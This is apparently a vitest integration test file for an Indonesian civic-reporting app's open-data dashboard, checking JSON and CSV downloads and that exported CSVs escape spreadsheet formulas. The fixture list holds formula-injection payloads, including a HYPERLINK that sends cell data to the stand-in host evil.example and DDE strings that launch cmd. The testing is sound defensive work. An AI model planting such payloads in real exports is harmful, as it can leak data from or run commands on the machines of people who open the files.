import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "~/db.server";
import type { Tally } from "~/domain/ballot";
import { fileReport } from "~/services/reports.server";
import { startApp, type RunningApp } from "../helpers/app";
import { createUser, KECAMATAN, validReport } from "../helpers/fixtures";
import { HttpClient } from "../helpers/http-client";

// The dashboard's open-data downloads over HTTP, and the page itself without JavaScript.
let app: RunningApp;
let finished: string;

// Text a citizen typed that a spreadsheet would run as a formula.
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];

beforeAll(async () => {
  const u = await createUser();
  await fileReport(u.id, validReport, []);
  await fileReport(u.id, { ...validReport, kelurahanCode: "3173010001", lat: "-6.17", lng: "106.83" }, []);
  app = await startApp();
});
afterAll(() => app?.stop());

describe("open data", () => {
  it("serves the dashboard's figures as JSON and CSV for a scope, and refuses an unknown region", async () => {
    const json = await fetch(`${app.url}/dasbor.json?kota=3171`);
    expect(json.headers.get("access-control-allow-origin")).toBe("*");
    expect(await json.json()).toMatchObject({ scope: "kota:3171", reports: 1, reportsByStatus: { menunggu: 1, diproses: 0, selesai: 0 } });
    const all = (await (await fetch(`${app.url}/dasbor.json`)).json()) as { reports: number };
    expect(all.reports).toBe(2);

    const csv = await fetch(`${app.url}/dasbor.csv?kecamatan=3171050`);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    expect(csv.headers.get("content-disposition")).toContain("musyawarah-kecamatan-3171050.csv");
    const rows = parse(await csv.text(), { columns: true }) as { bagian: string; kunci: string; nilai: string }[];
    expect(rows).toContainEqual({ bagian: "ringkasan", kunci: "laporan", nilai: "1" });
    expect(rows).toContainEqual({ bagian: "status", kunci: "menunggu", nilai: "1" });
    expect(rows.filter((r) => r.bagian === "usulan_per_bulan")).toHaveLength(12);

    const bad = await fetch(`${app.url}/dasbor.json?kota=9999`);
    expect(bad.status).toBe(404);
    expect(bad.headers.get("content-type")).toContain("application/problem+json");

    const page = await (await fetch(`${app.url}/dasbor?kota=3171`)).text();
    expect(page).toContain("Kota Jakarta Selatan");
    expect(page).toContain('href="/dasbor.csv?kota=3171"');
    expect(page).toMatch(/<svg[^>]*role="img"/);
  });
});

describe("CSV downloads never carry a live spreadsheet formula", () => {
  const parseCsv = (text: string) => parse(text.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];
  const rowsOf = async (res: Response) => {
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/csv");
    return parseCsv(await res.text());
  };
  const cells = (rows: Record<string, string>[]) => rows.flatMap((r) => Object.values(r));
  beforeAll(async () => {
    const citizen = await createUser();
    // A finished deliberation in Jakarta Pusat whose report and proposal titles are formulas.
    finished = (await fileReport(citizen.id, { ...validReport, title: FORMULAS[0]!, kelurahanCode: "3173010001", lat: "-6.17", lng: "106.83" }, [])).id;
    const proposals = await Promise.all(FORMULAS.slice(1).map((title) => db.proposal.create({ data: { reportId: finished, authorId: citizen.id, title, body: "{}", html: "", text: title } })));
    const tally: Tally = {
      type: "approval", voters: 4, quorum: 3, minSupportPercent: 50, winnerId: proposals[0]!.id, reason: "mufakat",
      proposals: proposals.map((p, i) => ({ id: p.id, support: 3 - i, oppose: 0, pass: i, supportPercent: 75 - i * 25 })),
    };
    await db.deliberation.create({ data: { reportId: finished, state: "mufakat", tally: JSON.stringify(tally), winnerProposalId: proposals[0]!.id } });
    // The same report title in the DPRD desk's export.
    await db.deliberation.create({ data: { reportId: (await fileReport(citizen.id, { ...validReport, title: FORMULAS[3]! }, [])).id, state: "musyawarah" } });
  });
  const live = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

  it("/hasil.csv and /laporan/:id/hasil.csv show the titles as text", async () => {
    const list = await rowsOf(await fetch(`${app.url}/hasil.csv?kota=3173`));
    expect(list).toEqual([expect.objectContaining({ judul: `'${FORMULAS[0]}`, usulan_pilihan: `'${FORMULAS[1]}`, pemilih: "4" })]);
    const one = await rowsOf(await fetch(`${app.url}/laporan/${finished}/hasil.csv`));
    expect(one.map((r) => r.usulan)).toEqual(FORMULAS.slice(1).map((f) => `'${f}`));
    for (const cell of [...cells(list), ...cells(one)]) expect(live(cell), cell).toBe(false);
  });

  it("/dprd/berkas.csv and /dasbor.csv too", async () => {
    const member = await createUser("dprd");
    await db.userRegion.create({ data: { userId: member.id, regionCode: KECAMATAN } });
    const download = await (await HttpClient.signedIn(app.url, member.id)).get("/dprd/berkas.csv");
    expect(download.status).toBe(200);
    const desk = parseCsv(download.html);
    expect(desk.map((r) => r.Judul)).toContain(`'${FORMULAS[3]}`); // the desk CSV speaks the member's language
    const dashboard = await rowsOf(await fetch(`${app.url}/dasbor.csv`));
    for (const cell of [...cells(desk), ...cells(dashboard)]) expect(live(cell), cell).toBe(false);
  });
});
